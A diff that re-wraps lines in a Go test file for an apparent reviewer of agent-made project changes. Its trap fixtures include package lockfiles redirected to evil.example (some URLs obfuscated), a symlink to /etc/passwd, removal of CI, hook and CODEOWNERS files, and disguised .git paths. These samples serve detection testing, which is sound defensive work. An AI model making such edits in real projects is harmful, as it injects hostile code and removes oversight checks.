@@ -53,7 +53,8 @@ func file(kind Kind, rel, text string) trap {
 func named(name string, t trap) trap { t.name = name; return t }
 
 func linkTo(rel, target string) trap {
-	return trap{name: "link " + target, kind: Link, path: rel, do: func(dir string) error { return os.Symlink(target, filepath.Join(dir, rel)) }}
+	return trap{name: "link " + target, kind: Link, path: rel,
+		do: func(dir string) error { return os.Symlink(target, filepath.Join(dir, rel)) }}
 }
 
 // trapSecret is the value of a secret of the run.
@@ -149,7 +150,8 @@ func traps() []trap {
 		named("old file, executable", trap{kind: Mode, path: "old.txt", do: writes("old.txt", "one\ntwo\n", 0o755)}),
 		named("old file, executable and changed", trap{kind: Mode, path: "old.txt", do: writes("old.txt", "new\n", 0o755)}),
 		named("upper and lower case", file(Name, "OLD.txt", "x\n")),
-		named("composed and decomposed", trap{kind: Name, path: "cafe\u0301.txt", set: writes("caf\u00e9.txt", "x\n"), do: writes("cafe\u0301.txt", "x\n")}),
+		named("composed and decomposed",
+			trap{kind: Name, path: "cafe\u0301.txt", set: writes("caf\u00e9.txt", "x\n"), do: writes("cafe\u0301.txt", "x\n")}),
 		named("a folder in another case", trap{kind: Name, path: "SRC/x.go", set: writes("src/x.go", "x\n"), do: writes("SRC/x.go", "y\n")}),
 		named(".git in upper case", trap{kind: Git, path: "x/.GIT", do: writes("x/.GIT/config", "x\n")}),
 		named(".git with a character that is not seen", file(Git, "y/.g\u200cit/config", "x\n")),
@@ -242,7 +244,8 @@ func traps() []trap {
 		edits(Install, "another source of Cargo", "Cargo.lock", "source = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
 			"source = \"registry+https://evil.example/index\"\n"),
 		edits(Install, "another source of Bundler", "Gemfile.lock", "  remote: https://rubygems.org/\n", "  remote: https://evil.example/\n"),
-		edits(Install, "a package manager from an address", "web/package.json", "{}\n", "{\n\"packageManager\": \"yarn@https://evil.example/y.js\"}\n"),
+		edits(Install, "a package manager from an address", "web/package.json", "{}\n",
+			"{\n\"packageManager\": \"yarn@https://evil.example/y.js\"}\n"),
 		gone(CI, ".github/workflows/scan.yml"),
 		gone(Hook, ".husky/pre-commit"),
 		gone(CI, "CODEOWNERS"),
@@ -280,7 +283,8 @@ func traps() []trap {
 			}
 			return os.Symlink("../../etc/passwd", filepath.Join(dir, "latest"))
 		}}),
-		edits(Ends, "one line among other line ends", "src/ends.go", strings.Repeat("x\n", 30), strings.Repeat("x\r\n", 15)+"evil()\r\n"+strings.Repeat("x\r\n", 15)),
+		edits(Ends, "one line among other line ends", "src/ends.go", strings.Repeat("x\n", 30),
+			strings.Repeat("x\r\n", 15)+"evil()\r\n"+strings.Repeat("x\r\n", 15)),
 		edits(Ends, "line ends alone", "src/alone.sh", "#!/bin/sh\nx\n", "#!/bin/sh\r\nx\r\n"),
 		named("a text in UTF-16", trap{kind: Binary, path: "src/wide.js", do: writes("src/wide.js", "\xff\xfee\x00v\x00i\x00l\x00")}),
 		named("a text in Latin-1", file(Unseen, "src/latin.js", "a\xa0b\n")),
@@ -303,17 +307,19 @@ func edits(kind Kind, name, rel, before, after string) trap {
 
 // gone removes a file that protects the project.
 func gone(kind Kind, rel string) trap {
-	return trap{name: "no " + rel, kind: kind, path: rel, set: writes(rel, "x\n"), do: func(dir string) error { return os.Remove(filepath.Join(dir, rel)) }}
+	return trap{name: "no " + rel, kind: kind, path: rel, set: writes(rel, "x\n"),
+		do: func(dir string) error { return os.Remove(filepath.Join(dir, rel)) }}
 }
 
 // moved gives a file another name.
 func moved(kind Kind, from, to string) trap {
-	return trap{name: from + " becomes " + to, kind: kind, path: to, set: writes(from, strings.Repeat("a line of a file\n", 20)), do: func(dir string) error {
-		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, to)), 0o755); err != nil {
-			return err
-		}
-		return os.Rename(filepath.Join(dir, from), filepath.Join(dir, to))
-	}}
+	return trap{name: from + " becomes " + to, kind: kind, path: to, set: writes(from, strings.Repeat("a line of a file\n", 20)),
+		do: func(dir string) error {
+			if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, to)), 0o755); err != nil {
+				return err
+			}
+			return os.Rename(filepath.Join(dir, from), filepath.Join(dir, to))
+		}}
 }
 
 // reviewOf runs an agent that does something in a small project with many harmless
@@ -463,10 +469,15 @@ func TestAttackAFloodOfTrapsIsCounted(t *testing.T) {
 func TestHarmlessChangesAreNotDangerous(t *testing.T) {
 	r := reviewOf(t, nil, func(dir string) error {
 		for rel, text := range map[string]string{
-			"src/main.go": "package main\n\nfunc main() { fmt.Println(\"hi 👩\u200d💻 ❤️ é 世界\") }\n", "README.md": "# Ünïcode\n\n* a long but ordinary line " + strings.Repeat("word ", 100) + "\n",
-			"docs/ru.md": "Привет, мир\n", "docs/fa.md": "می\u200cخواهم\n", "src/a.py": "token = request.token\npassword = get()\n", "win.txt": "a\r\nb\r\n",
-			"src/style.css": "a { color: red }\n", "test/data.json": "{\"a\": 1, \"key\": \"value\"}\n", "src/t.go": "token := authentication.NewTokenFromRequest2(request)\n\tsecretName: \"ordinary-words-only\",\n", "curl.md": "use curl to fetch it, then read it\n",
-			"docs/fr.md": "Attention\u00a0: 5\u202f% \u2014 \u00ab\u00a0oui\u00a0\u00bb, 1\u00aa, 25 \u00b5m, \u0394t, \u03bbx, 1\ufe0f\u20e3\n", "docs/ja.md": "\u5168\u89d2\u3000\uff21\uff22\uff23\n", "docs/vi.md": "Ti\u1ebfng Vi\u1ec7t\n",
+			"src/main.go": "package main\n\nfunc main() { fmt.Println(\"hi 👩\u200d💻 ❤️ é 世界\") }\n",
+			"README.md":   "# Ünïcode\n\n* a long but ordinary line " + strings.Repeat("word ", 100) + "\n",
+			"docs/ru.md":  "Привет, мир\n", "docs/fa.md": "می\u200cخواهم\n", "src/a.py": "token = request.token\npassword = get()\n",
+			"win.txt":       "a\r\nb\r\n",
+			"src/style.css": "a { color: red }\n", "test/data.json": "{\"a\": 1, \"key\": \"value\"}\n",
+			"src/t.go":   "token := authentication.NewTokenFromRequest2(request)\n\tsecretName: \"ordinary-words-only\",\n",
+			"curl.md":    "use curl to fetch it, then read it\n",
+			"docs/fr.md": "Attention\u00a0: 5\u202f% \u2014 \u00ab\u00a0oui\u00a0\u00bb, 1\u00aa, 25 \u00b5m, \u0394t, \u03bbx, 1\ufe0f\u20e3\n",
+			"docs/ja.md": "\u5168\u89d2\u3000\uff21\uff22\uff23\n", "docs/vi.md": "Ti\u1ebfng Vi\u1ec7t\n",
 			"src/gaps.go": "package a\n" + strings.Repeat("\n", 5) + "var x = 1\n",
 		} {
 			if err := writes(rel, text)(dir); err != nil {
@@ -531,7 +542,8 @@ func TestAPackageFromARegistryOfTheFile(t *testing.T) {
 		{"package-lock.json", adds(""), adds(`"resolved": "https://npm.corp.example@evil.example/b.tgz"`), true},
 		{"package-lock.json", adds(""), adds(`"resolved": "https://evil.example\\@packages.npmjs.org/b.tgz"`), true},
 		{"package-lock.json", adds(""), adds(`"resolved": "https://evil.example?@packages.npmjs.org/b.tgz"`), true},
-		{"package-lock.json", adds(""), adds(`"resolved": "https://packages.npmjs.org/b.tgz", "z": {"resolved": "https://evil.example/b.tgz"}`), true},
+		{"package-lock.json", adds(""),
+			adds(`"resolved": "https://packages.npmjs.org/b.tgz", "z": {"resolved": "https://evil.example/b.tgz"}`), true},
 		{"package-lock.json", adds(""), adds("\"resolved\":\n\"https://evil.example/b.tgz\""), true},
 		{"package-lock.json", adds(""), adds(`"res\u006flved": "https:\/\/evil.ex\u0061mple/b.tgz"`), true},
 		{"package-lock.json", adds(""), adds(`"resolved": "git+ssh://git@evil.example/b.git#0123"`), true},
@@ -579,7 +591,8 @@ func TestJSON(t *testing.T) {
 	if err := json.Unmarshal([]byte(out.String()), &got); err != nil {
 		t.Fatal(err)
 	}
-	if got.SchemaVersion != 1 || got.Dangerous != 1 || got.Files[0].Path != "Makefile" || got.Files[0].Hunks[0].ID == "" || !strings.Contains(got.Files[0].Hunks[0].Text, "+all:") {
+	if got.SchemaVersion != 1 || got.Dangerous != 1 || got.Files[0].Path != "Makefile" || got.Files[0].Hunks[0].ID == "" ||
+		!strings.Contains(got.Files[0].Hunks[0].Text, "+all:") {
 		t.Errorf("%+v", got)
 	}
 }
